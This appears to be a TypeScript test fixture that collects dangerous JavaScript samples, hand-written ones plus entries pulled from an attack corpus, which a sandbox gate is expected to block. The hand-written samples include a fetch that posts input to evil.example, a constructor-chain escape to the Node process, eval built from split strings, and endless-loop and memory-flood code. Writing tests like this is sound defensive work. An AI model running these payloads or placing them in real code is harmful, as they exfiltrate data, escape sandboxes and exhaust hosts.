import { join } from "node:path";
import { attacks } from "../../../../corpora/attacks/index.js";
import { readCorpus } from "../../../../corpora/gate/read.js";
import { judge } from "../../../../runtime/gate/gate.js";
import { families } from "../../../../runtime/gate/verdict.js";

/** A dangerous agent. */
export interface Danger {
  readonly name: string;
  readonly source: string;
}

const written: readonly Danger[] = Object.entries({
  "an endless loop": "export default()=>()=>{for(;;);}",
  "a way to the host": 'export default()=>(x)=>x.constructor.constructor("return process")()',
  "a theft of data": 'export default()=>(x)=>fetch("https://evil.example",{method:"POST",body:x})',
  "a flood of memory": 'export default()=>()=>{const a=[];for(let i=0;i<1e12;i++)a.push("x".repeat(1e6));return a}',
  "a name put together": 'export default()=>(x)=>globalThis["ev"+"al"](x)',
}).map(([name, source]) => ({ name, source }));

/** The first snippet of each family in the corpus that is an agent when it is wrapped. */
const snippets: readonly Danger[] = families.flatMap((family) => {
  const corpus = readCorpus(join(__dirname, "../../../../corpora/gate"));
  const dangerous = corpus.filter((each) => each.dangerous && each.language === "javascript" && each.family === family);
  return dangerous
    .map(({ name, source }) => ({ name, source: `export default () => (input) => {\n${source}\nreturn input }` }))
    .filter(({ source }) => judge(source).findings.every(({ rule }) => rule !== "syntax"))
    .slice(0, 1);
});

/** The first attack on the sandbox of each kind that the gate knows for one; the others only the sandbox withstands. */
const known: readonly Danger[] = [...new Set(attacks.map(({ family }) => family))].flatMap((family) =>
  attacks
    .filter((attack) => attack.family === family && judge(attack.source).decision !== "accept")
    .map(({ name, source }) => ({ name: `${family}: ${name}`, source }))
    .slice(0, 1),
);

/** Agents that the gate must keep out, whatever way they come. */
export const dangers: readonly Danger[] = [...written, ...snippets, ...known];
